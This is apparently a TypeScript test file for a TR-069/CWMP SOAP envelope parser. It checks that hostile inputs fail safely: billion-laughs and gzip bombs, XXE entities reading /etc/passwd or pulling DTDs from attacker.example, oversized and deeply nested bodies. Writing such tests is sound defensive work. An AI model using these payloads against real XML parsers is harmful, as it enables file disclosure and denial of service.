import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { buildEnvelope } from './build-envelope.js';
import { decodeBody } from './decode-body.js';
import type { CwmpCodecErrorCode } from './errors.js';
import { parseEnvelope } from './parse-envelope.js';
import type { CodecResult } from './result.js';

// Untrusted bodies: each attack ends in a typed error (or, for harmless-but-heavy input, a correct parse).

const codeOf = (result: CodecResult<unknown>): CwmpCodecErrorCode | 'ok' => (result.ok ? 'ok' : result.error.code);

const soap = (body: string): string =>
  `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body>${body}</soap:Body></soap:Envelope>`;

const valueEnvelope = (rawValue: string): string =>
  soap(`<cwmp:GetParameterValuesResponse><ParameterList><ParameterValueStruct><Name>Device.X</Name><Value xsi:type="xsd:string">${rawValue}</Value></ParameterValueStruct></ParameterList></cwmp:GetParameterValuesResponse>`);

describe('hostile input', () => {
  it('rejects a billion-laughs envelope before parsing', () => {
    const laughs = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      '  <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
      ']>',
      valueEnvelope('&lol9;'),
    ].join('\n');
    assert.equal(codeOf(parseEnvelope(laughs)), 'CWMP_FORBIDDEN_XML');
  });

  it('rejects external entities, parameter entities and a DOCTYPE hidden after the root', () => {
    assert.equal(codeOf(parseEnvelope(`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${valueEnvelope('&xxe;')}`)), 'CWMP_FORBIDDEN_XML');
    assert.equal(codeOf(parseEnvelope(`<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">${valueEnvelope('x')}`)), 'CWMP_FORBIDDEN_XML');
    assert.equal(codeOf(parseEnvelope(`<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>${valueEnvelope('x')}`)), 'CWMP_FORBIDDEN_XML');
    assert.equal(codeOf(parseEnvelope(`${valueEnvelope('x')}<!doctype x>`)), 'CWMP_FORBIDDEN_XML');
  });

  it('leaves undeclared entity references as text, never resolving them', () => {
    const result = parseEnvelope(valueEnvelope('&xxe;&lt;'));
    assert.ok(result.ok);
    assert.deepEqual(result.value.message, { type: 'GetParameterValuesResponse', parameters: [{ name: 'Device.X', value: '&xxe;<', type: 'string' }] });
  });

  it('rejects a 10 MB body by size before looking at it', () => {
    // Garbage that would otherwise be malformed XML: the size check must come first.
    const huge = Buffer.alloc(10 * 1024 * 1024, '<');
    assert.equal(codeOf(parseEnvelope(huge)), 'CWMP_BODY_TOO_LARGE');
    assert.equal(codeOf(parseEnvelope(huge.toString('latin1'))), 'CWMP_BODY_TOO_LARGE');
    // Multi-byte characters count as bytes, not UTF-16 units.
    assert.equal(codeOf(parseEnvelope('\u4e2d'.repeat(2_000_000))), 'CWMP_BODY_TOO_LARGE');
    assert.equal(codeOf(decodeBody(huge, undefined)), 'CWMP_BODY_TOO_LARGE');
  });

  it('decodes 100,000 numeric character references into plain text, not markup', () => {
    const result = parseEnvelope(valueEnvelope('&#60;b&#62;'.repeat(100_000)));
    assert.ok(result.ok, result.ok ? '' : result.error.message);
    const message = result.value.message;
    assert.equal(message.type, 'GetParameterValuesResponse');
    if (message.type !== 'GetParameterValuesResponse') return;
    assert.equal(message.parameters.length, 1);
    assert.equal(message.parameters[0]?.value, '<b>'.repeat(100_000));
  });

  it('turns references to characters XML forbids into U+FFFD', () => {
    const result = parseEnvelope(valueEnvelope('a&#0;b&#xD800;c&#x110000;d&#99999999;e&#99999999999999;'));
    assert.ok(result.ok);
    if (result.value.message.type === 'GetParameterValuesResponse') assert.equal(result.value.message.parameters[0]?.value, 'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe&#99999999999999;');
  });

  it('rejects 10,000-deep nesting, at the top and inside a value', () => {
    const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
    assert.equal(codeOf(parseEnvelope(deep)), 'CWMP_TOO_DEEP');
    assert.equal(codeOf(parseEnvelope(valueEnvelope(deep))), 'CWMP_TOO_DEEP');
    assert.equal(codeOf(parseEnvelope('<a>'.repeat(10_000))), 'CWMP_TOO_DEEP');
    assert.equal(codeOf(parseEnvelope(valueEnvelope('<a>'.repeat(5) + '</a>'.repeat(5)), { maxDepth: 8 })), 'CWMP_TOO_DEEP');
  });

  it('rejects random bytes as malformed or not SOAP', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2048 }), (bytes) => {
        const code = codeOf(parseEnvelope(Buffer.from(bytes)));
        assert.ok(code === 'CWMP_MALFORMED_XML' || code === 'CWMP_NOT_SOAP', code);
      }),
      { numRuns: 2000 },
    );
  });

  it('stops a gzip bomb in decodeBody at maxBodyBytes', () => {
    const bomb = gzipSync(Buffer.alloc(32 * 1024 * 1024), { level: 9 });
    assert.ok(bomb.length < 64 * 1024);
    assert.equal(codeOf(decodeBody(bomb, 'gzip')), 'CWMP_BODY_TOO_LARGE');
    assert.equal(codeOf(decodeBody(bomb, undefined)), 'CWMP_BODY_TOO_LARGE');
    assert.equal(codeOf(decodeBody(gzipSync(Buffer.alloc(2048)), 'gzip', { maxBodyBytes: 1024 })), 'CWMP_BODY_TOO_LARGE');
  });

  it('rejects every truncation of a valid envelope as malformed', () => {
    const xml = buildEnvelope({
      namespace: 'urn:dslforum-org:cwmp-1-0',
      id: '1',
      holdRequests: false,
      message: { type: 'SetParameterValues', parameters: [{ name: 'Device.A', value: 'x<&>y', type: 'string' }], parameterKey: 'k' },
    });
    for (let length = 1; length < xml.length; length++) {
      const code = codeOf(parseEnvelope(xml.slice(0, length)));
      assert.equal(code, 'CWMP_MALFORMED_XML', `truncated at ${length}: ${xml.slice(Math.max(0, length - 20), length)}`);
    }
  });

  it('rejects mismatched end tags and content after the root', () => {
    assert.equal(codeOf(parseEnvelope(soap('<cwmp:Reboot><CommandKey>x</Key></cwmp:Reboot>'))), 'CWMP_MALFORMED_XML');
    assert.equal(codeOf(parseEnvelope(`${soap('<cwmp:Reboot/>')}<extra/>`)), 'CWMP_MALFORMED_XML');
    assert.equal(codeOf(parseEnvelope(`${soap('<cwmp:Reboot/>')} trailing`)), 'CWMP_MALFORMED_XML');
    assert.equal(codeOf(parseEnvelope(soap('<cwmp:Reboot a="<"/>'))), 'CWMP_MALFORMED_XML');
  });
});
